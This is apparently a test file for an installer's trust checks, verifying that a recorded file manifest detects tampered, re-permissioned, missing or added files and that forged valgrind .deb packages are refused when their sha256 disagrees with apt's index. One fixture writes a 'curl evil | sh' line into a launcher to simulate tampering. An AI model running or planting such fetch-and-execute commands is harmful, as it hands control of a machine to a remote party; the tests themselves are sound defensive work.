// What the install trusts: a prefix only when every file matches the manifest recorded when it
// was built; a cached .deb only when its sha256 is the one apt's signed index gives.
import { execFileSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as os from 'node:os'
import * as path from 'node:path'
import { unverifiedPackage } from '../src/install/package-manager.js'
import {
  manifestDifference,
  manifestDigest,
  parseAptStanzas,
  treeManifest
} from '../src/install/trust.js'

function tree(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vg-tree-'))
  fs.mkdirSync(path.join(dir, 'bin'))
  fs.writeFileSync(path.join(dir, 'bin', 'valgrind'), 'launcher', { mode: 0o755 })
  fs.mkdirSync(path.join(dir, 'libexec', 'valgrind'), { recursive: true })
  fs.writeFileSync(path.join(dir, 'libexec', 'valgrind', 'memcheck-amd64-linux'), 'tool')
  return dir
}

describe('prefix manifest', () => {
  it('matches the tree it was recorded from, whatever the order of its keys', () => {
    const dir = tree()
    const recorded = treeManifest(dir)
    expect(Object.keys(recorded).sort()).toEqual([
      'bin/valgrind',
      'libexec/valgrind/memcheck-amd64-linux'
    ])
    expect(manifestDifference(recorded, treeManifest(dir))).toBeUndefined()
    const reversed = Object.fromEntries(Object.entries(recorded).reverse())
    expect(manifestDigest(reversed)).toBe(manifestDigest(recorded))
  })

  it('names a replaced, a re-moded, a missing and an added file', () => {
    const dir = tree()
    const recorded = treeManifest(dir)
    fs.writeFileSync(path.join(dir, 'bin', 'valgrind'), '#!/bin/sh\ncurl evil | sh\n')
    expect(manifestDifference(recorded, treeManifest(dir))).toBe('changed bin/valgrind')
    fs.writeFileSync(path.join(dir, 'bin', 'valgrind'), 'launcher')
    fs.chmodSync(path.join(dir, 'bin', 'valgrind'), 0o4755)
    expect(manifestDifference(recorded, treeManifest(dir))).toBe('changed bin/valgrind')
    fs.rmSync(path.join(dir, 'bin', 'valgrind'))
    fs.writeFileSync(path.join(dir, 'bin', 'vgdb'), 'x')
    expect(manifestDifference(recorded, treeManifest(dir))).toBe(
      'missing bin/valgrind; added bin/vgdb'
    )
  })
})

const hasApt = ['/usr/bin/dpkg-deb', '/usr/bin/apt-cache'].every((tool) => fs.existsSync(tool))
const describeApt = hasApt ? describe : describe.skip

describeApt('cached .deb files', () => {
  /** A .deb named like apt's valgrind candidate (same version and architecture), forged here. */
  function forgedDeb(version: string): string {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vg-deb-'))
    const root = path.join(dir, 'root')
    fs.mkdirSync(path.join(root, 'DEBIAN'), { recursive: true })
    fs.mkdirSync(path.join(root, 'usr', 'bin'), { recursive: true })
    fs.writeFileSync(path.join(root, 'usr', 'bin', 'valgrind'), '#!/bin/sh\n', { mode: 0o755 })
    const arch = execFileSync('dpkg', ['--print-architecture'], { encoding: 'utf8' }).trim()
    fs.writeFileSync(
      path.join(root, 'DEBIAN', 'control'),
      `Package: valgrind\nVersion: ${version}\nArchitecture: ${arch}\nMaintainer: x <x@example.com>\nDescription: forged\n`
    )
    const deb = path.join(dir, `valgrind_${arch}.deb`)
    execFileSync('dpkg-deb', ['--build', root, deb], { stdio: 'ignore' })
    return deb
  }

  it("refuses a package whose sha256 is not the one apt's index gives for it", async () => {
    const show = execFileSync('apt-cache', ['show', 'valgrind'], { encoding: 'utf8' })
    const candidate = parseAptStanzas(show)[0]
    expect(candidate?.SHA256).toMatch(/^[0-9a-f]{64}$/)
    const problem = await unverifiedPackage([forgedDeb(candidate.Version)])
    expect(problem).toMatch(
      new RegExp(`has sha256 [0-9a-f]{64}, but apt's index gives ${candidate.SHA256} for valgrind`)
    )
  })

  it('refuses a package apt does not know', async () => {
    const problem = await unverifiedPackage([forgedDeb('99:1.0-evil')])
    expect(problem).toMatch(/apt's package lists do not know valgrind 99:1\.0-evil/)
  })
})
